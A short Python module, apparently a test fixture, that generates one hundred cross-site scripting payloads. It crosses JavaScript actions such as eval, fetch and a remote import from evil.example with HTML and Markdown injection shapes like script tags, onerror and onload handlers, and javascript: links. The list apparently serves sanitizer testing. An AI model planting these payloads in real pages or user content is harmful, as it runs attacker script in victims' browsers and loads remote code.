"""Texts that would run a script, load a picture, or become a link where they are not plain text."""

_ACTS = (
    "alert(1)", "fetch('http://evil.example/')", "document.title='owned'", "print()",
    "import('http://evil.example/x.js')", "eval(name)", "confirm(2)", "open('//evil.example')",
    "document.write('owned')", "new Image().src='//evil.example/i'",
)  # fmt: skip
_SHAPES = (
    "<script>{}</script>", "<img src=x onerror=\"{}\">", "<svg/onload={}>",
    "\"><iframe srcdoc=\"<script>{}</script>\">", "[tas](javascript:{})",
    "![tas](http://evil.example/p.png \"{}\")", "</script><script>{}</script>",
    "<a href=\"javascript:{}\">tas</a>", ":red[**tas**] $\\text{{}}$ <b onmouseover={}>",
    "javascript:{} http://evil.example/ www.evil.example <http://evil.example>",
)  # fmt: skip

PAYLOADS = tuple(shape.replace("{}", act) for shape in _SHAPES for act in _ACTS)
